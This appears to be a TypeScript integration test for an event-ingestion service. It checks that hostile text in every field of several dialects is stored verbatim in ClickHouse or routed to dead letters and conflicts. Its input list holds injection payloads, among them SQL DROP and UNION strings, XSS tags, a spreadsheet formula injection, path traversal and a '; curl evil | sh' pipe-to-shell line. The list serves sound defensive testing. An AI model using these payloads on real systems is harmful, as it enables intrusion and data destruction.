import assert from 'node:assert/strict';
import { test } from 'node:test';
import { dialects } from '../../src/door/dialects/all.ts';
import { eventId } from '../../src/event/identity.ts';
import { eventually } from '../helpers/eventually.ts';
import { freshConfig } from '../helpers/shared-stack.ts';
import { startSystem } from '../helpers/system.ts';

/* faults.md 28: SQL, HTML and what other languages read out of text, in every name and value of every dialect, is text in ClickHouse. */

const hostile = [
  `'; DROP TABLE events; --`, `') OR 1=1 UNION ALL SELECT * FROM system.users --`, `<script>alert("1")</script>`, `"><img src=x onerror=alert(1)>`, '\\', `\\'; DROP TABLE events; --`, '{id: UUID} {{7*7}} ${7*7} %s %00',
  `=cmd|' /C calc'!A0`, 'a\tb\nc\rd\\N', '\0 NUL \u0007', '\u202etxet\u202c ﷽ 😀', '../../etc/passwd', '; curl evil | sh #', '`whoami`', 'NULL', 'true', '2024-01-01',
];

test('hostile text in every name and value, by every dialect, is stored as it came', { timeout: 90_000 }, async () => {
  const system = await startSystem(freshConfig());
  try {
    const bearer = { authorization: 'Bearer dev' };
    const now = new Date().toISOString();
    const expected: Record<string, unknown>[] = [];
    const send = async (path: string, member: string, events: { body: object; row: Record<string, unknown> }[], dialect: string): Promise<void> => {
      const { status, body } = await system.post(path, { [member]: events.map(each => each.body) }, bearer);
      assert.deepEqual([Math.floor(status / 100), body['accepted']], [2, events.length], `${path} ${JSON.stringify(body)}`);
      for (const { body: sent, row } of events) expected.push({ dialect, user_id: '', anonymous_id: '', event: '', group_id: '', name: '', category: '', email: '', previous_id: '', ...row, raw: JSON.stringify(sent) });
    };
    const segment = hostile.flatMap((text, index) => {
      const common = { userId: text, anonymousId: text, context: { [text]: text, list: [text, { [text]: text }] }, integrations: { [text]: text } };
      const id = (type: string): string => `${type} ${index} ${text}`;
      const ids = (type: string): Record<string, unknown> => ({ user_id: text, anonymous_id: text, message_id: id(type) });
      return [
        { body: { type: 'track', event: text, ...common, messageId: id('track'), properties: { [text]: text, deep: { [text]: [text] } } }, row: { ...ids('track'), event: text } },
        { body: { type: 'identify', ...common, messageId: id('identify'), traits: { [text]: text, email: text } }, row: ids('identify') },
        { body: { type: 'group', ...common, groupId: text, messageId: id('group'), traits: { [text]: text } }, row: { ...ids('group'), group_id: text } },
        { body: { type: 'page', ...common, name: text, category: text, messageId: id('page'), properties: { [text]: text } }, row: { ...ids('page'), name: text, category: text } },
        { body: { type: 'screen', ...common, name: text, messageId: id('screen') }, row: { ...ids('screen'), name: text } },
        { body: { type: 'alias', ...common, previousId: text, messageId: id('alias') }, row: { ...ids('alias'), previous_id: text } },
      ];
    });
    await send('/v1/batch', 'batch', segment, 'segment');
    await send('/v1/events/batch', 'events', hostile.map((text, index) => ({
      body: { external_user_id: text, event_type: 'e', occurred_at: now, properties: { [text]: text }, context: { $message_id: `w ${index} ${text}`, [text]: text } },
      row: { user_id: text, event: 'e', message_id: `w ${index} ${text}` },
    })), 'whisperr');
    await send('/api/v1/client/events/bulk', 'events', hostile.map((text, index) => ({
      body: { type: 'signup', uid: text, source: text, action: text, feature: text, plan: text, status: text, idempotency_key: `m ${index} ${text}`, metadata: { [text]: text } },
      row: { user_id: text, event: 'signup', message_id: `m ${index} ${text}` },
    })), 'mailerpath');
    for (const [index, text] of hostile.entries()) {
      const body = { event_type: text, occurred_at: now, idempotency_key: `i ${index} ${text}`, data: { user_id: text, [text]: text } };
      for (let times = 0; times < 2; times++) {
        // Looked up in ClickHouse by the first, in this door's memory by the second.
        const answer = await system.post('/v1/events', body, bearer);
        assert.deepEqual([answer.status, answer.body['deduplicated']], [200, times === 0 ? undefined : true], text);
      }
      expected.push({ dialect: 'intake', anonymous_id: '', group_id: '', name: '', category: '', email: '', previous_id: '', user_id: text, event: text, message_id: `i ${index} ${text}`, raw: JSON.stringify(body) });
    }
    assert.deepEqual([...new Set(expected.map(row => row['dialect']))].sort(), dialects.map(({ name }) => name).sort());
    // Refused in a batch: the texts are in dead_letters too.
    const refused = hostile.map((text, index) => ({ type: text, userId: text, messageId: `r ${index} ${text}`, [text]: text }));
    assert.equal((await system.post('/api/v1/events/batch', { batch: refused }, bearer)).body['rejected'], refused.length);
    // Other content under a known id: in conflicts.
    await system.post('/v1/batch', { batch: hostile.map((text, index) => ({ type: 'track', event: `${text}!`, userId: text, messageId: `track ${index} ${text}` })) }, bearer);

    const columns = 'dialect, user_id, anonymous_id, event, group_id, name, category, email, previous_id, message_id, raw';
    const rows = await eventually(() => system.query(`SELECT ${columns} FROM events`), found => found.length >= expected.length, 30_000, 200);
    const sorted = (all: Record<string, unknown>[]): unknown[] => all.map(row => Object.entries(row).sort(([a], [b]) => (a < b ? -1 : 1))).map(row => JSON.stringify(row)).sort();
    assert.deepEqual(sorted(rows), sorted(expected));

    const conflicts = await eventually(() => system.query('SELECT message_id, toString(event_id) AS id, raw FROM conflicts'), found => found.length >= hostile.length, 30_000, 200);
    assert.deepEqual(sorted(conflicts), sorted(hostile.map((text, index) => ({ message_id: `track ${index} ${text}`, id: eventId('dev', `track ${index} ${text}`), raw: JSON.stringify({ type: 'track', event: `${text}!`, userId: text, messageId: `track ${index} ${text}` }) }))));
    const letters = await eventually(() => system.query('SELECT message_id, payload FROM dead_letters'), found => found.length >= refused.length, 30_000, 200);
    assert.deepEqual(sorted(letters), sorted(refused.map(each => ({ message_id: each.messageId, payload: JSON.stringify(each) }))));

    // In the JSON columns: the value of a plain name as it came, other names where those can hold them.
    const sources = await system.query<{ source: string; user: string }>(`SELECT properties.source.:String AS source, user_id AS user FROM events WHERE dialect = 'mailerpath'`);
    assert.deepEqual(sources.map(({ source }) => source).sort(), [...hostile].sort());
    for (const { source, user } of sources) assert.equal(source, user);
    // Profiles follow.
    await eventually(() => system.query<{ user_id: string }>('SELECT user_id FROM users'), users => hostile.every(text => users.some(({ user_id }) => user_id === text)), 30_000, 200);
    const groups = await eventually(() => system.query<{ group_id: string }>('SELECT group_id FROM groups'), found => found.length >= hostile.length, 30_000, 200);
    assert.deepEqual(groups.map(({ group_id }) => group_id).sort(), [...hostile].sort());
  } finally {
    await system.close();
  }
});
